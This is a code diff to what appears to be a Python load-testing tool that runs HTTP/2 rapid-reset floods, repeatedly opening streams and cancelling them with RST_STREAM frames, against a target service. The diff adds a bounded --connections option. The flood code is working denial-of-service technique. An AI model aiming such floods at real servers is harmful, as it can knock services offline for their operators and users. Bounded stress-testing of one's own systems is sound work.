@@ -41,6 +41,9 @@ MAX_CONNECTIONS = 5000
 BATCH = 200
 """Frames (or frame pairs) written between two drains."""
 
+CONNECTIONS: int | None = None
+"""``--connections``: how many connections a rapid reset flood uses (None: its own)."""
+
 Flood = Callable[[Target, float, Tally, asyncio.Event], Awaitable[None]]
 
 
@@ -87,7 +90,8 @@ def _rapid_reset(with_body: bool, connections: int = 4) -> Flood:
                     chunks.append(hf.RstStreamFrame(sid, error_code=0x8).serialize())  # CANCEL
                 conn.send_bytes(b"".join(chunks), len(chunks))
                 await conn.drain()
-        await _parallel(connections, lambda: _reconnecting(target, tally, started, body))
+        count = CONNECTIONS if CONNECTIONS is not None else connections
+        await _parallel(count, lambda: _reconnecting(target, tally, started, body))
     return flood
 
 
@@ -273,7 +277,14 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--cert", type=pathlib.Path, help="mtls: the client certificate")
     parser.add_argument("--key", type=pathlib.Path, help="mtls: the client key")
     parser.add_argument("--token", help="the token metadata of AppImageService calls")
+    parser.add_argument("--connections", type=int,
+                        help="rapid reset floods: this many connections (at most 500)")
     args = parser.parse_args(argv)
+    if args.connections is not None:
+        if not 0 < args.connections <= 500:
+            parser.error("--connections: between 1 and 500")
+        global CONNECTIONS
+        CONNECTIONS = args.connections
     if not 0 < args.seconds <= 60:
         parser.error("--seconds: a flood is bounded, between 0 and 60")
     host, port = args.target.rsplit(":", 1)
